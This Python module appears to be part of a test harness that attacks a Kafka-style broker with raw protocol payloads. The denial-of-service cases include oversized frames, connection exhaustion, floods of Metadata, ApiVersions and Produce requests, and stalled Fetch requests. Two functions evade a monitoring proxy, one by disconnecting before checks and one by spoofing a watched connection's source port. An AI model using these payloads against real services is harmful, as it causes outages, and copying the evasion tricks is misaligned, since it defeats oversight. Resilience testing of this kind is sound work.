"""Attacks with requests to brokers."""

from __future__ import annotations

import resource
import socket
import struct
import time
from pathlib import Path
from typing import Any

from contract import ENOUGH_S, MIB, answer, at, configured, for_a_while, out


def broker(command: dict[str, Any]) -> tuple[str, int]:
    host, _, port = command["config"]["bootstrap.servers"].partition(",")[0].rpartition(":")
    return host, int(port)


@at("configure")
def announces_large_frames(command: Any) -> None:
    _announce(command, 8)


@at("configure")
def announces_as_much_as_it_may(command: Any) -> None:
    _announce(command, 2)


def _announce(command: dict[str, Any], frames: int) -> None:
    configured(command)
    held = [socket.create_connection(broker(command)) for _ in range(frames)]
    for connection in held:
        connection.sendall((32 * MIB).to_bytes(4, "big"))
    time.sleep(ENOUGH_S)


@at("configure")
def opens_connections(command: Any) -> None:
    resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
    configured(command)
    held = []
    for _ in range(3_000):
        try:
            held.append(socket.create_connection(broker(command)))
        except OSError:
            break
    time.sleep(ENOUGH_S)


@at("configure")
def goes_around(command: Any) -> None:
    """Connect to the broker and not to the proxy, and break off before the harness looks for such connections."""
    host, port = broker(command)
    with socket.create_connection((host, port + 2)):
        out(b"garbage\n")


@at("configure")
def goes_around_as_the_witness(command: Any) -> None:
    """Bypass the witness with the source port of one of its connections, from another address."""
    configured(command)
    host, port = broker(command)
    held = socket.create_connection((host, port))
    for _ in for_a_while():
        rows = [line.split()[1:4] for line in Path("/proc/net/tcp").read_text().splitlines()[1:]]
        ports = [int(at[-4:], 16) for at, to, state in rows if state == "01" and int(to[-4:], 16) == port + 2]
        if ports:
            break
    around = socket.create_connection((host, port + 2), source_address=("127.0.0.2", ports[0]))
    around.close()
    held.close()


@at("close")
def leaves_requests(command: Any) -> None:
    """Leave as many requests as possible that wait for records. The broker notices no disconnect while they wait."""
    resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
    topic = command["config"]["topic"].encode()
    fetch = b"\0\1\0\4\0\0\0\7\xff\xff" + struct.pack(">iiiib", -1, 120_000, 1, MIB, 0)
    fetch += struct.pack(">ih", 1, len(topic)) + topic + struct.pack(">iiqi", 1, 0, 0, MIB)
    held = [socket.create_connection(broker(command)) for _ in range(999)]
    for connection in held:
        connection.sendall(len(fetch).to_bytes(4, "big") + fetch)
    answer({**command, "cmd": "close"})


@at("configure")
def asks_for_millions_of_topics(command: Any) -> None:
    """Send Metadata 1 with as many empty topic names as possible."""
    configured(command)
    count = 4_000_000
    body = b"\0\3\0\1\0\0\0\7\xff\xff" + count.to_bytes(4, "big") + b"\0\0" * count
    for _ in range(3):
        with socket.create_connection(broker(command)) as connection:
            connection.sendall(len(body).to_bytes(4, "big") + body)
            connection.recv(MIB)
    time.sleep(ENOUGH_S)


@at("configure")
def asks_without_end(command: Any) -> None:
    """Send ApiVersions 0 as fast as the broker accepts it."""
    configured(command)
    request = b"\0\0\0\x0a\0\x12\0\0\0\0\0\7\xff\xff"
    with socket.create_connection(broker(command)) as connection:
        for _ in for_a_while():
            connection.sendall(request * 1_000)
            connection.recv(4 * MIB)


@at("configure")
def speaks_http(command: Any) -> None:
    configured(command)
    with socket.create_connection(broker(command)) as connection:
        connection.sendall(b"GET / HTTP/1.1\r\nHost: x\r\n\r\n" * 1_000)
        connection.recv(1)
    time.sleep(ENOUGH_S)


@at("configure")
def produces_to_many_partitions(command: Any) -> None:
    """Send Produce 3 without records to partitions that do not exist. Each request is small enough to be read."""
    configured(command)
    count = 20_000
    partitions = b"".join(struct.pack(">ii", index, -1) for index in range(count))
    body = b"\0\0\0\3\0\0\0\7\xff\xff" + struct.pack(">hhi", -1, 1, 1_000)
    body += struct.pack(">ih", 1, 1) + b"x" + struct.pack(">i", count) + partitions
    with socket.create_connection(broker(command)) as connection:
        for _ in range(150):
            connection.sendall(len(body).to_bytes(4, "big") + body)
            size = int.from_bytes(connection.recv(4, socket.MSG_WAITALL), "big")
            connection.recv(size, socket.MSG_WAITALL)
    time.sleep(ENOUGH_S)
